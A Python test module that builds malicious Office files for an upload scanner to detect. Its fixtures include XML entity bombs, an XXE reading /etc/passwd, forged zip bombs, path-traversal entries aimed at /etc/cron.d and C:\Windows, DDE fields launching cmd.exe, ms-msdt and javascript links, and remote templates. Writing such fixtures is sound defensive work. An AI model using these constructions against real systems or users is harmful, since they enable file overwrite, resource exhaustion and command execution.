"""Hostile Word, Excel and PowerPoint files."""

import io
import stat
import struct
import warnings
import zipfile
import zlib

from tests.hostile.kit import (
    Hostile,
    archive,
    document,
    relations,
    sheet_parts,
    slide_parts,
    word,
    word_parts,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]><x>&a11;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def zeros(size: int) -> bytes:
    """A Word file with a part of so many zeros."""
    return word({"word/media/a.png": b"\0" * size})


def zeros_that_lie() -> bytes:
    """The table of contents says ten bytes, the part unfolds to 400 MB."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b"\0" * (1024 * 1024)
    body = b"".join(packed.compress(piece) for _number in range(400)) + packed.flush()
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in word_parts().items():
            target.writestr(name, content)
        target.writestr("word/media/a.png", b"0123456789", zipfile.ZIP_STORED)
    plain = bytearray(held.getvalue())
    small = plain.rindex(b"0123456789", 0, plain.index(b"PK\x01\x02"))
    plain[small : small + 10] = body
    local = small - len("word/media/a.png") - 30
    struct.pack_into("<H", plain, local + 8, zipfile.ZIP_DEFLATED)
    struct.pack_into("<L", plain, local + 18, len(body))
    entry = plain.rindex(b"PK\x01\x02")
    struct.pack_into("<H", plain, entry + 10, zipfile.ZIP_DEFLATED)
    struct.pack_into("<L", plain, entry + 20, len(body))
    end = plain.rindex(b"PK\x05\x06")
    (start,) = struct.unpack_from("<L", plain, end + 16)
    struct.pack_into("<L", plain, end + 16, start + len(body) - 10)
    return bytes(plain)


def overlapping() -> bytes:
    """Two names in the table of contents for one place in the file."""
    plain = bytearray(word({"word/a.xml": "<x/>", "word/b.xml": "<x/>"}))
    entries = []
    place = plain.index(b"PK\x01\x02")
    while place >= 0:
        entries.append(place)
        place = plain.find(b"PK\x01\x02", place + 4)
    struct.pack_into(
        "<L", plain, entries[-1] + 42, *struct.unpack_from("<L", plain, entries[-2] + 42)
    )
    return bytes(plain)


def other_name_inside() -> bytes:
    """The part calls itself otherwise than the table of contents calls it."""
    plain = bytearray(word({"word/media/a.png": b"x"}))
    place = plain.index(b"word/media/a.png")
    plain[place : place + 16] = b"word/media/b.exe"
    return bytes(plain)


def duplicate() -> bytes:
    held = io.BytesIO(word())
    with warnings.catch_warnings(), zipfile.ZipFile(held, "a") as target:
        warnings.simplefilter("ignore")
        target.writestr("word/document.xml", "<x/>")
    return held.getvalue()


def many_parts() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED) as target:
        for name, content in word_parts().items():
            target.writestr(name, content)
        for number in range(65_536):
            target.writestr(f"word/{number}", b"")
    return held.getvalue()


def symbolic_link() -> bytes:
    held = io.BytesIO(word())
    with zipfile.ZipFile(held, "a") as target:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        target.writestr(link, "/etc/passwd")
    return held.getvalue()


def locked_entry() -> bytes:
    plain = bytearray(word())
    entry = plain.index(b"PK\x01\x02")
    plain[entry + 8] |= 1
    return bytes(plain)


def nested_archives(depth: int) -> bytes:
    inner = b"\0" * 100_000
    for _number in range(depth):
        inner = archive({"a.zip": inner})
    return word({"word/media/a.zip": inner})


def nested_workbooks() -> bytes:
    deepest = archive(sheet_parts())
    middle = archive({**sheet_parts(), "xl/embeddings/a.xlsx": deepest})
    return archive({**word_parts(), "word/embeddings/a.xlsx": middle})


def macro_in_chart() -> bytes:
    inner = archive({**sheet_parts(), "xl/vbaProject.bin": OLE})
    return archive({**word_parts(), "word/embeddings/a.xlsx": inner})


def macro_type() -> bytes:
    parts = word_parts()
    types = str(parts["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return archive({**parts, "[Content_Types].xml": types})


def related(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    return archive({**word_parts(), part: relations((kind, target, "External"))})


def field(words: str) -> bytes:
    return archive(word_parts(f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"))


def split_field() -> bytes:
    runs = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", "TO c")
    )
    return archive(word_parts(f"<w:p>{runs}</w:p>"))


def formula(words: str) -> bytes:
    return archive(sheet_parts(f"<c><f>{words}</f><v>0</v></c>"))


def sixteen_bit() -> bytes:
    """The entities are written in UTF-16, where nobody looks for the word."""
    return word({"word/a.xml": LAUGHS.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")})


def deep_xml() -> bytes:
    return archive(word_parts("<w:p>" * 100_000 + "</w:p>" * 100_000))


def long_sheet() -> bytes:
    """A sheet of 135 MB that says the same row over and over."""
    row = "<row><c><v>1</v></c></row>"
    held = io.BytesIO()
    parts = sheet_parts()
    start, end = (
        str(parts.pop("xl/worksheets/sheet1.xml")).split("<row>", 1)[0],
        "</sheetData></worksheet>",
    )
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        for name, content in parts.items():
            target.writestr(name, content)
        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(start.encode())
            for _number in range(130):
                sheet.write((row * 40_000).encode())
            sheet.write(end.encode())
    return held.getvalue()


def slip(name: str) -> bytes:
    return archive({**word_parts(), name: "x"})


PPT = "ppt/_rels/presentation.xml.rels"
ALL = [
    Hostile(f"office-{key}", f"{key}.{extension}", build, tuple(codes.split()))
    for key, extension, build, codes in [
        ("macros", "docx", lambda: word({"word/vbaProject.bin": OLE}), "upload.macros office.macros"),
        ("macro-type", "docx", macro_type, "office.macros"),
        ("macro-sheet", "xlsx", lambda: archive({**sheet_parts(), "xl/macrosheets/sheet1.xml": "<x/>"}), "office.macros"),
        ("macro-in-chart", "docx", macro_in_chart, "office.macros"),
        ("activex", "docx", lambda: archive({**word_parts(), "word/activeX/activeX1.bin": OLE}), "office.activex"),
        ("ole", "docx", lambda: archive({**word_parts(), "word/embeddings/oleObject1.bin": OLE}), "office.ole"),
        ("program", "pptx", lambda: archive({**slide_parts(), "ppt/media/a.bin": b"MZ\x90\0" * 99}), "office.embedded"),
        ("script", "docx", lambda: archive({**word_parts(), "word/media/a.js": "alert(1)"}), "office.embedded"),
        ("html-chunk", "docx", lambda: archive({**word_parts(), "word/_rels/document.xml.rels": relations(("aFChunk", "a.html", ""))}), "office.embedded"),
        ("remote-template", "docx", lambda: related("attachedTemplate", "http://example.invalid/a.dotm", "word/_rels/settings.xml.rels"), "office.external"),
        ("share-template", "docx", lambda: related("attachedTemplate", "\\\\example.invalid\\a.dotm", "word/_rels/settings.xml.rels"), "office.external"),
        ("remote-picture", "docx", lambda: related("image", "http://example.invalid/a.png"), "office.external"),
        ("remote-object", "pptx", lambda: archive({**slide_parts(), PPT: relations(("oleObject", "http://example.invalid/a", "External"))}), "office.external"),
        ("remote-frame", "docx", lambda: related("frame", "https://example.invalid/"), "office.external"),
        ("other-workbook", "xlsx", lambda: archive({**sheet_parts(), "xl/externalLinks/_rels/externalLink1.xml.rels": relations(("externalLinkPath", "file:///C:/a.xlsx", "External"))}), "office.external"),
        ("share-link", "docx", lambda: related("hyperlink", "\\\\example.invalid\\a"), "office.link"),
        ("program-link", "docx", lambda: related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "office.link"),
        ("javascript-link", "pptx", lambda: archive({**slide_parts(), PPT: relations(("hyperlink", "javascript:alert(1)", "External"))}), "office.link"),
        ("dde", "docx", lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "office.dde"),
        ("dde-split", "docx", split_field, "office.dde"),
        ("dde-simple", "docx", lambda: archive(word_parts('<w:p><w:fldSimple w:instr="DDE a b"/></w:p>')), "office.dde"),
        ("dde-formula", "xlsx", lambda: formula("cmd|'/C calc'!A0"), "office.dde"),
        ("dde-link", "xlsx", lambda: archive({**sheet_parts(), "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), "office.dde"),
        ("web-formula", "xlsx", lambda: formula("WEBSERVICE(&quot;http://example.invalid&quot;)"), "office.dde"),
        ("fetching-field", "docx", lambda: field('INCLUDEPICTURE "http://example.invalid/a.png"'), "office.external"),
        ("laughs", "docx", lambda: word({"word/a.xml": LAUGHS}), "office.entities"),
        ("outside-entity", "xlsx", lambda: archive({**sheet_parts(), "xl/a.xml": OUTSIDE}), "office.entities"),
        ("laughs-16-bit", "docx", sixteen_bit, "office.entities"),
        ("zeros", "docx", lambda: zeros(700 * 1024 * 1024), "office.bomb"),
        ("zeros-that-lie", "docx", zeros_that_lie, "office.bomb office.broken"),
        ("long-sheet", "xlsx", long_sheet, "office.bomb"),
        ("overlapping", "docx", overlapping, "office.bomb office.slip"),
        ("deep-xml", "docx", deep_xml, "office.broken"),
        ("torn-xml", "docx", lambda: archive(word_parts("<w:p>")), "office.broken"),
        ("many-parts", "docx", many_parts, "office.too_many_parts upload.lies"),
        ("duplicate", "docx", duplicate, "office.duplicate_parts"),
        ("duplicate-case", "docx", lambda: archive({**word_parts(), "Word/Document.xml": "<x/>"}), "office.duplicate_parts"),
        ("slip", "docx", lambda: slip("../../../../tmp/evil.xml"), "office.slip"),
        ("slip-inside", "docx", lambda: slip("word/../../evil.xml"), "office.slip"),
        ("slip-absolute", "docx", lambda: slip("/etc/cron.d/evil"), "office.slip"),
        ("slip-windows", "docx", lambda: slip("C:\\Windows\\evil.dll"), "office.slip"),
        ("link", "docx", symbolic_link, "office.slip"),
        ("other-name-inside", "docx", other_name_inside, "office.slip"),
        ("locked", "docx", locked_entry, "office.encrypted"),
        ("old-office", "doc.docx", lambda: OLE, "upload.old_office office.broken"),
        ("nested-archives", "docx", lambda: nested_archives(20), "office.nested"),
        ("nested-workbooks", "docx", nested_workbooks, "office.nested"),
        ("zip-as-word", "docx", lambda: archive({"a.txt": "x"}), "upload.lies office.broken"),
        ("word-as-excel", "xlsx", word, "upload.lies office.broken"),
        ("pdf-in-front", "docx", lambda: document() + word(), "upload.lies file.polyglot"),
        ("html-behind", "docx", lambda: word() + b"<html><script>alert(1)</script>", "upload.lies file.polyglot office.broken"),
        ("cut-off", "docx", lambda: word()[:-40], "upload.lies office.broken"),
    ]
]  # fmt: skip
